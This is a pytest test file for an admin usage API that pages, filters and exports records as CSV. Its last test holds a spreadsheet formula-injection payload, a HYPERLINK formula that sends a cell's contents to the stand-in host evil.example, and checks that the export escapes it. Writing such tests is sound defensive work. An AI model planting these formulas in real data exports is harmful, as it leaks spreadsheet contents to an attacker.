"""GET /admin/v1/usage: every record with the price applied, paged by cursor, and as CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io

import httpx
import pytest
from fastapi import FastAPI

from gateway.accounting import write_batch
from tests.api.test_admin_backends import assert_envelope
from tests.api.test_ledger import HOUR, entry


def _records() -> list:  # type: ignore[type-arg]
    return [
        entry(0, minute=1, completion_tokens=100, cost_usd=0.0002, baseline_cost_usd=0.0005,
              concurrency=4.0, curve_source="measured"),
        entry(1, minute=2, method="plain", completion_tokens=50, cost_usd=0.00025,
              baseline_cost_usd=0.00025, curve_source="estimated"),
        entry(2, minute=3, status_code=401, outcome="rejected", method=None, backend_name=None,
              completion_tokens=0, cost_usd=None, baseline_cost_usd=None),
        entry(3, minute=70, completion_tokens=10, cost_usd=0.00001, baseline_cost_usd=0.00004,
              curve_source="measured"),
    ]  # fmt: skip


async def test_pages_follow_the_cursor_and_show_the_price_applied(
    client: httpx.AsyncClient, app: FastAPI
) -> None:
    write_batch(app.state.components.sessions, _records())
    seen, cursor = [], None
    while True:
        params = {"limit": 3} | ({"cursor": cursor} if cursor else {})
        body = (await client.get("/admin/v1/usage", params=params)).json()
        seen += body["data"]
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert [r["request_id"] for r in seen] == ["r0", "r1", "r2", "r3"]  # oldest first, once
    first = seen[0]
    assert first["usd_per_mtok"] == pytest.approx(2.0)  # 0.0002 USD for 100 tokens
    assert first["baseline_usd_per_mtok"] == pytest.approx(5.0)
    assert (first["concurrency"], first["curve_source"], first["backend"]) == (4.0, "measured", "b")
    refused = seen[2]
    assert (refused["usd_per_mtok"], refused["curve_source"], refused["outcome"]) == (
        None,
        None,
        "rejected",
    )
    # cost = tokens x $/1M / 1e6, for every priced record
    for r in seen:
        if r["usd_per_mtok"] is not None:
            assert r["cost_usd"] == pytest.approx(r["completion_tokens"] * r["usd_per_mtok"] / 1e6)


async def test_filters_and_csv_agree_with_json(client: httpx.AsyncClient, app: FastAPI) -> None:
    write_batch(app.state.components.sessions, _records())
    hour = {"from": HOUR.isoformat(), "to": (HOUR + dt.timedelta(hours=1)).isoformat()}
    cases = [
        (hour, ["r0", "r1", "r2"]),
        ({"method": "plain"}, ["r1"]),
        ({"status": 401}, ["r2"]),
        ({"from": (HOUR + dt.timedelta(minutes=2)).isoformat()}, ["r1", "r2", "r3"]),
        ({"model": "other"}, []),
    ]
    for params, expected in cases:
        body = (await client.get("/admin/v1/usage", params=params)).json()
        assert [r["request_id"] for r in body["data"]] == expected, params
        response = await client.get("/admin/v1/usage", params=params | {"format": "csv"})
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert [r["request_id"] for r in rows] == expected
        for row, record in zip(rows, body["data"], strict=True):
            for name, value in record.items():
                if isinstance(value, float):
                    assert float(row[name]) == pytest.approx(value), name
                elif value is None:
                    assert row[name] == "", name
                elif not isinstance(value, str) or name != "created_at":
                    assert row[name] == str(value), name


async def test_a_bad_cursor_or_format_is_422(client: httpx.AsyncClient) -> None:
    assert_envelope(await client.get("/admin/v1/usage", params={"cursor": "abc"}), 422)
    assert_envelope(await client.get("/admin/v1/usage", params={"format": "xml"}), 422)
    assert_envelope(await client.get("/admin/v1/usage", params={"limit": 0}), 422)


@pytest.mark.parametrize("key", [2**31, 2**63])
async def test_a_filter_the_database_refuses_is_an_error_in_csv_too(
    client: httpx.AsyncClient, key: int
) -> None:
    """The CSV's first batch is read before the response starts: what the JSON page answers
    with an error envelope, the CSV does too, instead of a download cut off mid-stream."""
    page = await client.get("/admin/v1/usage", params={"key": key})
    download = await client.get("/admin/v1/usage", params={"key": key, "format": "csv"})
    assert download.status_code == page.status_code
    if page.status_code != 200:
        assert_envelope(download, page.status_code)


async def test_a_time_without_an_offset_is_utc_on_every_report(
    client: httpx.AsyncClient, app: FastAPI
) -> None:
    """`?from=2026-11-29` compared a naive time with stored aware ones: a 500, before."""
    write_batch(app.state.components.sessions, _records())
    bare = {"from": "2026-11-29T10:02:00", "to": "2026-11-29T11:00"}
    utc = {"from": "2026-11-29T10:02:00+00:00", "to": "2026-11-29T11:00:00Z"}
    assert (await client.get("/admin/v1/usage", params=bare)).json() == (
        await client.get("/admin/v1/usage", params=utc)
    ).json()
    seen = (await client.get("/admin/v1/usage", params=bare)).json()["data"]
    assert [r["request_id"] for r in seen] == ["r1", "r2"]
    day = {"from": "2026-11-29", "to": "2026-11-30"}
    for path in ("/admin/v1/spend", "/admin/v1/savings"):  # and /fleet: the same type
        response = await client.get(path, params=day)
        assert response.status_code == 200, (path, response.text)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
async def test_a_request_id_a_spreadsheet_would_run_is_text_in_the_csv(
    client: httpx.AsyncClient, app: FastAPI, start: str
) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    write_batch(app.state.components.sessions, [entry(0, client_request_id=formula)])
    download = await client.get("/admin/v1/usage", params={"format": "csv"})
    (row,) = list(csv.DictReader(io.StringIO(download.text)))
    assert row["client_request_id"] == "'" + formula  # shown as text, not run
    assert row["cost_usd"] == "0.001"  # numbers stay numbers
    shown = (await client.get("/admin/v1/usage")).json()["data"][0]
    assert shown["client_request_id"] == formula  # the JSON keeps it as sent
